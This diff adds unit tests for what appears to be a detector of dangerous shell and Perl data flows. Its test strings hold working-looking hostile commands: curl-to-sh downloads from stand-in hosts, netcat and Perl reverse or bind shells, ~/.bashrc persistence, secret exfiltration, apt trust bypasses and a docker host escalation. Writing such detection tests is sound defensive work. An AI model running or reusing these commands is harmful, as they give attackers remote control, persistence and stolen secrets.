@@ -190,3 +190,51 @@ TEST(Scripts, DeepOrWideInputEnds) {
     (void)read(wide, language);
   }
 }
+
+TEST(Shell, CommandsThatStandInVariables) {
+  EXPECT_FLOW("if x; then get=\"curl -fsSL\"; else get=\"wget -qO-\"; fi\n$get http://x.invalid/i | sh -s -- 1\n", "shell", "network to execute-command");
+  EXPECT_FLOW("RUN=bash\ncurl http://x.invalid/i | $RUN\n", "shell", "network to execute-command");
+  EXPECT_FLOW("curl http://x.invalid/i | $SHELL 2>/dev/null\n", "shell", "network to execute-command");
+  EXPECT_FLOW("curl http://x.invalid/i | ${SHELL:-/bin/sh}\n", "shell", "network to execute-command");
+  EXPECT_NO_FLOW("get=\"curl -fsSL\"\n$get http://x.invalid/i > list\n", "shell");
+}
+
+TEST(Shell, NamedPipesBetweenShellAndNetwork) {
+  EXPECT_FLOW("p=$(mktemp -u)\nmkfifo \"$p\"\n/bin/sh -i 2>&1 <\"$p\" | nc 192.0.2.1 9 >\"$p\" &\n", "shell", "network to open-shell");
+  EXPECT_FLOW("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 192.0.2.1 9 > /tmp/f\n", "shell", "network to execute-command");
+  EXPECT_NO_FLOW("p=$(mktemp -u)\nmkfifo \"$p\"\nsort <\"$p\" | uniq -c > counts &\nzcat a.gz > \"$p\"\n", "shell");
+}
+
+TEST(Shell, LinesWrittenIntoStartFilesAreRead) {
+  EXPECT_FLOW("echo '(curl -fs http://x.invalid/a | bash &)' >> ~/.bashrc\n", "shell", "network to execute-command");
+  EXPECT_FLOW("add() { printf '%s\\n' \"$2\" >> \"$1\"; }\na='curl -fs http://x.invalid/a | sh'\nfor rc in $HOME/.bashrc $HOME/.profile; do add \"$rc\" \"$a\"; done\n", "shell",
+              "network to execute-command");
+  EXPECT_NO_FLOW("echo '[ -r ~/.theme ] && . ~/.theme' >> ~/.bashrc\n", "shell");
+}
+
+TEST(Shell, SecretsEncryptedForSomebodyElse) {
+  const std::string made = "key=$(head -c 32 /dev/urandom | base64 -w0)\n";
+  EXPECT_FLOW(made + "printf %s \"$key\" | age -r age1ql3z7h -a | curl -s --data-binary @- https://x.invalid/k\n", "shell", "keys to network");
+  EXPECT_FLOW("read -rsp 'Passphrase: ' pass\necho \"$pass\" | openssl pkeyutl -encrypt -pubin -inkey /usr/share/x/k.pem | curl -T - https://x.invalid/k\n", "shell", "keys to network");
+  EXPECT_NO_FLOW(made + "printf %s \"$key\" | age -r \"$2\" -a > \"$3\"\n", "shell");
+}
+
+TEST(Shell, TrustChangedByASetUp) {
+  EXPECT_FLOW("wget -qO - http://x.invalid/key.asc | apt-key add -\n", "shell", "network to change-trust");
+  EXPECT_TRUE(read("echo 'deb [trusted=yes] http://x.invalid/d s main' > /etc/apt/sources.list.d/x.list\n", "shell").sink.has(Facet::trust, "signature-bypass"));
+  EXPECT_TRUE(read("d=/usr/local/share/ca-certificates\ninstall -D -m 0644 /usr/share/x/r.crt \"$d/x.crt\"\n", "shell").sink.has(Facet::trust, "added-trust-root"));
+  EXPECT_FALSE(read("install -D -m 0644 /usr/share/x/r.crt /var/lib/x/x.crt\n", "shell").sink.has(Facet::trust, "added-trust-root"));
+}
+
+TEST(Shell, ContainersThatHoldTheHost) {
+  EXPECT_TRUE(read("S=/var/run/docker.sock\napi() { curl -s --unix-socket \"$S\" \"$@\"; }\nspec='{\"HostConfig\":{\"Binds\":[\"/:/h\"]}}'\napi -d \"$spec\" http://x/containers/create\n",
+                   "shell")
+                  .sink.has(Facet::power, "escalate"));
+  EXPECT_TRUE(read("docker run --rm -v /:/host alpine chroot /host sh\n", "shell").sink.has(Facet::power, "escalate"));
+  EXPECT_FALSE(read("docker run --rm -v /srv/data:/data alpine ls\n", "shell").sink.has(Facet::power, "escalate"));
+}
+
+TEST(Perl, AShellTiedToAListeningSocket) {
+  EXPECT_FLOW("use IO::Socket::INET;\nmy $d = IO::Socket::INET->new(LocalPort => 7, Listen => 1);\nwhile (my $g = $d->accept) { open STDIN, '<&', $g; open STDOUT, '>&', $g; system '/bin/sh', '-i'; }\n",
+              "perl", "network to open-shell");
+}
